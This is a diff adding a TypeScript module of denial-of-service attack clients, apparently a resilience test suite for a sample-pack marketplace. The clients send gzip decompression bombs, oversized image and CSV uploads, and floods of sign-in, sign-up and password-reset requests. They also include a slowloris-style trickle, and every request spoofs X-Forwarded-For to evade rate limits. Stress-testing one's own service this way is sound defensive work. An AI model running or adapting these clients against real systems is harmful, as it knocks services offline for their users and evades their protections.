@@ -1,0 +1,144 @@
+import { gzipSync } from 'node:zlib';
+import { connect } from 'node:net';
+import { randomBytes, randomUUID } from 'node:crypto';
+import sharp from 'sharp';
+
+/** What hostile clients know of the product that they attack. */
+export interface Target {
+  url: string;
+  /** An account of theirs, with one purchase. */
+  member: { email: string; password: string; cookie: string };
+  sampleId: string;
+  certificateId: string;
+}
+
+/** One request after the other, by one connection. */
+type Attack = () => Promise<unknown>;
+
+const json = { 'content-type': 'application/json' };
+const packed = { ...json, 'content-encoding': 'gzip' };
+
+/** Known ways to make the server work much for little. */
+export const AMPLIFIERS = [
+  'packed JSON to no route',
+  'packed JSON to sign-in',
+  'packed table of 32 MiB',
+  'sign-in with unknown fields',
+  'signing in rightly',
+  'signing in wrongly',
+  'signing up',
+  'forgotten passwords',
+  'avatars of 47 megapixels',
+  'new packs',
+  'the description as YAML',
+  'metrics',
+  'readiness',
+  'posts that void pages',
+  'pages spelled anew',
+  'pages with made-up cookies',
+  'pages with made-up cursors',
+  'searches with every filter',
+  'listings of the bucket',
+  'certificates as PDF',
+  'certificates by others',
+  'archives',
+  'exports of the account',
+  'bodies that trickle',
+] as const;
+export type Amplifier = (typeof AMPLIFIERS)[number];
+
+/**
+ * @param address that the proxy in front names
+ * @returns what one connection repeats
+ */
+export async function attackOf(name: Amplifier, target: Target, address: string): Promise<Attack> {
+  const { url, member, certificateId, sampleId } = target;
+  const from = { 'x-forwarded-for': address };
+  const own = { ...from, origin: url, cookie: member.cookie };
+  const send = (path: string, init: RequestInit = {}) =>
+    fetch(url + path, { redirect: 'manual', ...init, headers: { ...from, ...init.headers } })
+      .then((answer) => answer.arrayBuffer())
+      .catch(() => undefined);
+  const post = (path: string, body: unknown, headers: Record<string, string> = from) => {
+    const text = JSON.stringify(body);
+    return () => send(path, { method: 'POST', headers: { ...headers, ...json }, body: text });
+  };
+  const bomb = () => gzipSync(`[${'{},'.repeat(349_000)}{}]`);
+  const stranger = () => `${randomUUID()}@example.com`;
+  const attacks: Record<Amplifier, () => Attack | Promise<Attack>> = {
+    'packed JSON to no route': () => {
+      const body = bomb();
+      return () => send('/api/nothing-here', { method: 'POST', body, headers: packed });
+    },
+    'packed JSON to sign-in': () => {
+      const body = bomb();
+      return () => send('/api/auth/sign-in', { method: 'POST', body, headers: packed });
+    },
+    'packed table of 32 MiB': () => {
+      const body = gzipSync(Buffer.alloc(32 * 1024 * 1024, 'a,b\n'));
+      const headers = { ...own, ...packed, 'content-type': 'text/csv' };
+      return () => send('/api/finance/stripe-report', { method: 'POST', body, headers });
+    },
+    'sign-in with unknown fields': () =>
+      post('/api/auth/sign-in', Object.fromEntries(Array.from({ length: 4_000 }, (_, n) => [`key-${n}`, n]))),
+    'signing in rightly': () => post('/api/auth/sign-in', { email: member.email, password: member.password }),
+    'signing in wrongly': () => () =>
+      post('/api/auth/sign-in', { email: stranger(), password: 'not the one' })(),
+    'signing up': () => () =>
+      post('/api/auth/sign-up', { email: stranger(), password: randomBytes(12).toString('hex') })(),
+    'forgotten passwords': () => () => post('/api/auth/password/forgot', { email: stranger() })(),
+    'avatars of 47 megapixels': async () => {
+      const create = { width: 6_900, height: 6_900, channels: 3, background: '#123456' } as const;
+      const picture = await sharp({ create }).jpeg({ progressive: true, quality: 60 }).toBuffer();
+      return () => {
+        const body = new FormData();
+        body.set('image', new Blob([new Uint8Array(picture)]), 'a.jpg');
+        return send('/api/me/avatar', { method: 'PUT', body, headers: own });
+      };
+    },
+    'new packs': () => () =>
+      post('/api/creator/packs', { name: randomUUID(), genre: 'Trap', mood: 'Dark' }, own)(),
+    'the description as YAML': () => () => send('/api/openapi.yaml'),
+    metrics: () => () => send('/metrics'),
+    readiness: () => () => send('/readyz'),
+    'posts that void pages': () => () => send('/x', { method: 'POST' }),
+    'pages spelled anew': () => () => send(`/api/home?x=${Math.random()}`),
+    'pages with made-up cookies': () => () =>
+      send('/api/home', { headers: { cookie: `offcut_session=${randomUUID()}` } }),
+    'pages with made-up cursors': () => () => {
+      const cursor = Buffer.from(JSON.stringify([Math.random(), 'x'])).toString('base64url');
+      return send(`/api/packs?cursor=${cursor}`);
+    },
+    'searches with every filter': () => () => {
+      const q = randomBytes(2).toString('hex').slice(0, 3);
+      return send(
+        `/api/samples?q=${q}&bpmMin=60&bpmMax=180&genre=Trap&genre=Lofi&mood=Dark&mood=Chill&instrument=Drums&sort=popular`,
+      );
+    },
+    'listings of the bucket': () => () => send('/api/storage/list?prefix=Users&limit=1000'),
+    'certificates as PDF': () => () => send(`/api/certificates/${certificateId}.pdf`, { headers: own }),
+    'certificates by others': () => () => send(`/api/certificates/${certificateId}/verification`),
+    archives: () => () => send(`/api/library/downloads.zip?ids=${sampleId}`, { headers: own }),
+    'exports of the account': () => () => send('/api/me/export', { headers: own }),
+    'bodies that trickle': () => () => trickle(url, address),
+  };
+  return attacks[name]();
+}
+
+/** Promises a body and sends a letter of it every tenth of a second. */
+function trickle(url: string, address: string): Promise<void> {
+  const { hostname, port, host } = new URL(url);
+  return new Promise((resolve) => {
+    const socket = connect(Number(port), hostname);
+    socket.write(
+      `POST /api/auth/sign-in HTTP/1.1\r\nHost: ${host}\r\nX-Forwarded-For: ${address}\r\nContent-Type: application/json\r\nContent-Length: 20\r\n\r\n`,
+    );
+    const timer = setInterval(() => socket.write(' '), 100);
+    socket.on('error', () => {});
+    socket.resume().once('close', () => {
+      clearInterval(timer);
+      resolve();
+    });
+    setTimeout(() => socket.destroy(), 2_500);
+  });
+}
